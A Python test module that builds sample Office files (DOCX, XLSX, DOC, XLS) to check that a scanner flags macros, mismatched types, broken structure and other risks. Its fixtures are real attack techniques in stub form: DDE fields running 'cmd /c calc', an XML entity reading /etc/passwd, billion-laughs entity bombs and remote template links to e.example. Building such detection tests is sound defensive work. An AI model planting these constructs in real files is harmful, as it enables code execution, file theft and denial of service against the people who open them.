"""Office files, new and old, that would do something, hide something or are broken."""

import io
import struct
import zipfile

import docx
import xlsxwriter

from tests import make, old_files
from tests.documents.corpus import BROKEN, LOCKED, MACRO, MISMATCH, PROGRAM, XML, Case, case
from tests.documents.corpus_zip import archive, entry

RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word() -> bytes:
    out, made = io.BytesIO(), docx.Document()
    made.core_properties.author = made.core_properties.last_modified_by = ""
    made.add_paragraph("แผนปฏิบัติราชการ")
    made.save(out)
    return out.getvalue()


def sheet() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("งบประมาณ").write(0, 0, "รายการ")
    return out.getvalue()


WORD, SHEET = word(), sheet()


def edited(base: bytes, **parts: bytes) -> bytes:
    """The same package with these parts added, or in place of its own."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as given,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in given.namelist():
            if name not in parts:
                made.writestr(name, given.read(name))
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def related(kind: str, target: str, base: bytes = WORD, part: str = RELS) -> bytes:
    words = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return edited(base, **{part: words.encode()})


def body(xml: str, head: str = "") -> bytes:
    words = f'{head}<w:document xmlns:w="w"><w:body>{xml}</w:body></w:document>'
    return edited(WORD, **{"word/document.xml": words.encode()})


def field(*pieces: str) -> bytes:
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    return body("<w:p>" + begin + "".join(f"<w:instrText>{one}</w:instrText>" for one in pieces)
                + end + "</w:p>")  # fmt: skip


def cells(xml: str) -> bytes:
    return edited(SHEET, **{"xl/worksheets/sheet1.xml": f"<worksheet>{xml}</worksheet>".encode()})


ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" if n else "<!ENTITY a0 'ha'>" for n in range(12)
) + "]>"  # fmt: skip


def big(name: str) -> dict[str, bytes]:
    return {name: b"\0" * 4096}


def ole(**streams: bytes) -> bytes:
    return old_files.compound({name: data.ljust(4096, b"\0") for name, data in streams.items()})


def nested_ole(storage: str, stream: str) -> bytes:
    """A DOC with a storage that holds one stream."""
    data = bytearray(old_files.compound({"WordDocument": b"\0" * 4096, storage: b"\0" * 4096,
                                         stream: b"\0" * 4096}))  # fmt: skip
    at = 1024  # the directory: root, WordDocument, the storage, the stream
    struct.pack_into("<I", data, at + 128 + 72, 2)  # right of WordDocument: the storage
    data[at + 256 + 66] = 1  # a storage
    struct.pack_into("<II", data, at + 256 + 72, 0xFFFFFFFF, 3)  # its child: the stream
    return bytes(data)


def word_flags(flags: int) -> bytes:
    main = bytearray(4096)
    struct.pack_into("<H", main, 0x0A, flags)
    return ole(WordDocument=bytes(main))


def book(*records: tuple[int, bytes]) -> bytes:
    return ole(Workbook=b"".join(struct.pack("<HH", kind, len(data)) + data
                                 for kind, data in records))  # fmt: skip


def looped() -> bytes:
    data = bytearray(old_files.doc("วน"))
    struct.pack_into("<I", data, 512 + 4 * 2, 2)  # a sector whose next is itself
    return bytes(data)


def cyclic() -> bytes:
    data = bytearray(old_files.doc("วน"))
    struct.pack_into("<I", data, 1024 + 128 + 72, 1)  # an entry that stands right of itself
    return bytes(data)


def deep() -> bytes:
    return body("<w:p>" * 5_000 + "</w:p>" * 5_000)


def named() -> bytes:
    out, made = io.BytesIO(), docx.Document()
    made.core_properties.author, made.core_properties.last_modified_by = "สมชาย ใจดี", "สมหญิง"
    made.save(out)
    return out.getvalue()


SUPBOOK = struct.pack("<HHB", 1, 12, 0) + b"cmd\x03 /C calc"
OTHER_BOOK = struct.pack("<HHB", 1, 12, 0) + b"\x01other.xls\0\0"
NEW: list[Case] = [
    case("a DOCX in Thai", "แผน.docx", WORD),
    case("an XLSX in Thai", "งบ.xlsx", SHEET),
    case("an XLSX that Windows calls old", "งบ.xlsx", SHEET, declared="application/vnd.ms-excel"),
    case("a DOCX that a telephone calls ZIP", "ก.docx", WORD, declared="application/zip"),
    case("people in the properties", "ก.docx", named, find="names:author", names="สมชาย ใจดี"),
    case("who changed it last", "ก.docx", named, find="names:last_author", names="สมหญิง"),
    case("VBA", "a.docx", edited(WORD, **big("word/vbaProject.bin")), say=MACRO),
    case("VBA under another folder", "a.xlsx", edited(SHEET, **big("x/VBAPROJECT.BIN")), say=MACRO),
    case("a DOCM that is called DOCX", "a.docx", edited(WORD, **{"[Content_Types].xml":
         b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.'
         b'document.macroEnabled.main+xml"/></Types>'}), say=MACRO),
    case("Excel 4 macros", "a.xlsx", edited(SHEET, **{"xl/macrosheets/sheet1.xml": b"<x/>"}),
         say=MACRO),
    case("DOCX as XLSX", "a.xlsx", WORD, say=MISMATCH),
    case("XLSX as DOCX", "a.docx", SHEET, say=MISMATCH),
    case("DOCX as DOC", "a.doc", WORD, say=MISMATCH),
    case("DOCX as ZIP", "a.zip", WORD, say=MISMATCH),
    case("a plain ZIP as DOCX", "a.docx", make.zipped(**{"a.txt": b"x"}), say=MISMATCH),
    case("a remote template", "a.docx", related("attachedTemplate", "https://e.example/a.dotm"),
         say="ดึงแม่แบบ"),
    case("a template in a share", "a.docx", related("attachedTemplate", r"\\10.0.0.1\a.dotx"),
         say="ดึงแม่แบบ"),
    case("a template by file://", "a.docx", related("attachedTemplate", "file://10.0.0.1/a.dotx"),
         say="ดึงแม่แบบ"),
    case("one's own template", "a.docx", related("attachedTemplate", "file:///C:/Users/a/b.dotx"),
         find="external_link"),
    case("a remote object", "a.docx", related("oleObject", "http://e.example/a"), say="ดึงแม่แบบ"),
    case("a remote frame", "a.docx", related("frame", "http://e.example/a"), say="ดึงแม่แบบ"),
    case("a remote picture", "a.docx", related("image", "http://e.example/a.png"),
         find="external_link"),
    case("a link to a page", "a.docx", related("hyperlink", "https://www.moph.go.th/")),
    case("a link to a machine", "a.docx", related("hyperlink", r"file:///\\nas\งาน"),
         find="internal_address"),
    case("another workbook", "a.xlsx",
         related("externalLinkPath", "file:///C:/a.xlsx", SHEET, "xl/externalLinks/_rels/a.rels"),
         find="external_link"),
    case("a data connection", "a.xlsx", edited(SHEET, **{"xl/connections.xml": b"<connections/>"}),
         find="data_connection"),
    case("ActiveX", "a.docx", edited(WORD, **{"word/activeX/activeX1.bin": b"x"}), say="ActiveX"),
    case("a package", "a.docx",
         edited(WORD, **{"word/embeddings/oleObject1.bin": ole(**{"\x01Ole10Native": b"x"})}),
         say="ฝังไว้เป็นวัตถุ"),
    case("another object", "a.docx",
         edited(WORD, **{"word/embeddings/oleObject1.bin": ole(CONTENTS=b"x")}),
         find="embedded_object"),
    case("a sheet in a DOCX", "a.docx", edited(WORD, **{"word/embeddings/a.xlsx": SHEET}),
         find="embedded_document"),
    case("a sheet with macros in a DOCX", "a.docx", edited(WORD, **{
        "word/embeddings/a.xlsx": edited(SHEET, **big("xl/vbaProject.bin"))}), say=MACRO),
    case("a program in a DOCX", "a.docx", edited(WORD, **{"word/embeddings/a.bin": b"MZ\x90"}),
         say=PROGRAM),
    case("a page in a DOCX", "a.docx", edited(WORD, **{"word/a.html": b"x"}), say=PROGRAM),
    case("a PDF in a DOCX", "a.docx", edited(WORD, **{"word/embeddings/a.bin": make.pdf()}),
         say="ฝังไว้เป็นวัตถุ"),
    case("DDE", "a.docx", field(" DDE cmd /c calc"), say="DDE"),
    case("DDE in pieces", "a.docx", field("DD", "EAUTO c:\\\\a"), say="DDE"),
    case("DDE in a simple field", "a.docx",
         body('<w:fldSimple w:instr="DDEAUTO a b"/>'), say="DDE"),
    case("a text from elsewhere", "a.docx", field('INCLUDETEXT "http://e.example/a"'),
         find="external_link"),
    case("a page number", "a.docx", field(" PAGE ")),
    case("DDE in a cell", "a.xlsx", cells("<f>cmd|' /C calc'!A0</f>"), say="DDE"),
    case("DDE as a link", "a.xlsx",
         edited(SHEET, **{"xl/externalLinks/e1.xml": b'<e><ddeLink ddeService="cmd"/></e>'}),
         say="DDE"),
    case("a formula", "a.xlsx", cells("<f>HYPERLINK(&quot;https://a&quot;)|1</f><f>SUM(A1:A9)</f>")),
    case("a sheet as large as can be", "a.xlsx", cells('<dimension ref="A1:XFD1048576"/>')),
    case("an external entity", "a.docx", body("", ENTITY), say=XML),
    case("an external entity in the types", "a.docx",
         edited(WORD, **{"[Content_Types].xml": f"{ENTITY}<Types/>".encode()}), say=XML),
    case("an entity in UTF-16", "a.docx", edited(WORD, **{
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?>{ENTITY}<a/>'
        .encode("utf-16")}),
         say=XML),
    case("a billion laughs", "a.xlsx", edited(SHEET, **{
        "xl/sharedStrings.xml": f"{LAUGHS}<a>&a11;</a>".encode()}), say=XML),
    case("quadratic blow-up", "a.xlsx", edited(SHEET, **{
        "xl/sharedStrings.xml": f"<!DOCTYPE a [<!ENTITY b '{'x' * 5_000}'>]><a>{'&b;' * 5_000}</a>"
        .encode()}), say=XML),
    case("nested 5,000 deep", "a.docx", deep, say="ซ้อนชั้นลึก"),
    case("XML that ends early", "a.docx", edited(WORD, **{"word/document.xml": b"<a><b>"}),
         say=BROKEN),
    case("no XML", "a.xlsx", edited(SHEET, **{"xl/workbook.xml": b"\0" * 50}), say=BROKEN),
    case("a DOCX, cut off", "a.docx", WORD[: len(WORD) // 2], say=BROKEN),
    case("a DOCX with something behind", "a.docx", WORD + b"x" * 500, say="อีกชนิด"),
    case("the document twice", "a.docx", archive(
        entry(b"[Content_Types].xml", b"<T/>"), entry(b"word/document.xml", b"<w/>"),
        entry(b"word/document.xml", b"<w/>")), say="ชื่อซ้ำ"),
    case("a DOCX that is locked", "a.docx", ole(EncryptedPackage=b"x", EncryptionInfo=b"x"),
         say=LOCKED),
    case("ODT as DOCX", "a.docx",
         make.zipped(mimetype=b"application/vnd.oasis.opendocument.text"), say=MISMATCH),
    case("PPTX as DOCX", "a.docx", make.zipped(**{
        "[Content_Types].xml": b"<T/>", "ppt/presentation.xml": b"<p/>"}), say=MISMATCH),
]  # fmt: skip

OLD: list[Case] = [
    case("an old DOC", "เก่า.doc", old_files.doc("ประกาศเก่า" * 20)),
    case("an old XLS", "เก่า.xls", old_files.compound_xls("ก", "ข")),
    case("DOC as XLS", "a.xls", old_files.doc("ก" * 50), say=MISMATCH),
    case("XLS as DOC", "a.doc", old_files.compound_xls("ก", "ข"), say=MISMATCH),
    case("VBA", "a.doc", nested_ole("Macros", "dir"), say=MACRO),
    case("VBA in an XLS", "a.xls", ole(Workbook=b"", _VBA_PROJECT_CUR=b"x"), say=MACRO),
    case("an Excel 4 macro sheet", "a.xls", book((0x85, b"\0\0\0\0\0\x01\x01a")), say=MACRO),
    case("a hidden macro sheet", "a.xls", book((0x85, b"\0\0\0\0\x02\x01\x01a")), say=MACRO),
    case("a locked XLS", "a.xls", book((0x809, b"\0" * 16), (0x2F, b"\0" * 54)), say=LOCKED),
    case("a locked DOC", "a.doc", word_flags(0x0100), say=LOCKED),
    case("a package in a DOC", "a.doc", nested_ole("ObjectPool", "\x01Ole10Native"),
         say="ฝังไว้เป็นวัตถุ"),
    case("an object in a DOC", "a.doc", nested_ole("ObjectPool", "\x01CompObj"),
         find="embedded_object"),
    case("ActiveX in a DOC", "a.doc", nested_ole("ObjectPool", "\x03OCXNAME"), say="ActiveX"),
    case("DDE in a DOC", "a.doc", ole(WordDocument=b"\0" * 64 + b"\x13 DDEAUTO c:\\a \x14"),
         say="DDE"),
    case("DDE in UTF-16", "a.doc", ole(WordDocument=b"\0" * 64 + "\x13DDE a".encode("utf-16-le")),
         say="DDE"),
    case("a text from elsewhere in a DOC", "a.doc",
         ole(WordDocument=b"\0" * 64 + b'\x13 INCLUDETEXT "http://e" \x14'), find="external_link"),
    case("DDE in an XLS", "a.xls", book((0x1AE, SUPBOOK)), say="DDE"),
    case("another workbook", "a.xls", book((0x1AE, OTHER_BOOK)), find="external_book"),
    case("a loop of sectors, which readers leave", "a.doc", looped),
    case("a loop in the directory", "a.doc", cyclic, say=BROKEN),
    case("a DOC, cut off", "a.doc", old_files.doc("ก" * 50)[:700], say=BROKEN),
    case("only the mark", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", say=BROKEN),
    case("RTF as DOC", "a.doc", b"{\\rtf1 x}", say=MISMATCH),
    case("HTML as DOC", "a.doc", b"<html><body>x", say=MISMATCH),
    case("HTML as XLS", "a.xls", b"<table><tr><td>1", say=MISMATCH),
    case("XML as XLS", "a.xls", b'<?xml version="1.0"?><Workbook/>', say=MISMATCH),
    case("an MSI as XLS", "a.xls", ole(**{"!_Tables": b"x"}), say=MISMATCH),
    case("a DOC that is a ZIP too", "a.doc",
         old_files.doc("ก" * 50) + make.zipped(**{"a.txt": b"x"}), say="อีกชนิด"),
]  # fmt: skip
